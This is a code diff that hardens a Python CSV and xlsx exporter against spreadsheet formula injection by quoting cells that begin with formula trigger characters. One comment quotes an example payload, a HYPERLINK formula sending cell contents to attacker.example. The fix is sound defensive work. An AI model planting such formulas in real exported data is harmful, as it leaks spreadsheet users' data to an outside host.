@@ -86,11 +86,27 @@ def _write(results: ResultStore, stream: IO[Any], output_format: ExportFormat, s
     return write_xlsx(stream, names, found, title=shape.value)
 
 
+# A spreadsheet reads a cell that begins with one of these as a formula (or, for tab and
+# carriage return, shifts it into one): a statement sentence such as
+# `=HYPERLINK("http://attacker.example/?d="&A1)` must arrive as text (OWASP, "CSV Injection").
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def starts_like_formula(value: str) -> bool:
+    return value.startswith(FORMULA_TRIGGERS)
+
+
 def csv_cell(value: object) -> object:
     if value is None:
         return ""
     if isinstance(value, bool):
         return "true" if value else "false"
+    if isinstance(value, str):
+        if starts_like_formula(value):
+            value = "'" + value  # the OWASP practice: a leading quote makes it text
+        # The writer quotes a field with a line feed but not one with a bare carriage
+        # return, which would then end the row early in every reader.
+        return value.replace("\r\n", "\n").replace("\r", "\n")
     return value
 
 
@@ -122,10 +138,25 @@ def write_xlsx(stream: IO[bytes], names: list[str], found: Iterable[Row], title:
     illegal = openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE  # control characters XML cannot hold
     for row in found:
         values = [row.get(name) for name in names]
-        sheet.append([illegal.sub(" ", v) if isinstance(v, str) else v for v in values])
+        sheet.append(
+            [_xlsx_cell(sheet, illegal.sub(" ", v)) if isinstance(v, str) else v for v in values]
+        )
         count += 1
     workbook.save(stream)
     return count
+
+
+def _xlsx_cell(sheet: Any, text: str) -> Any:
+    """A text cell; one that looks like a formula is stored as a string, never a formula
+    (openpyxl would otherwise write `=...` as a live formula)."""
+    if not starts_like_formula(text):
+        return text
+    from openpyxl.cell import WriteOnlyCell
+
+    cell = WriteOnlyCell(sheet, value=text)
+    cell.data_type = "s"
+    cell.quotePrefix = True  # Excel shows it as typed and will not re-read it as a formula
+    return cell
 
 
 def _import_openpyxl() -> Any:
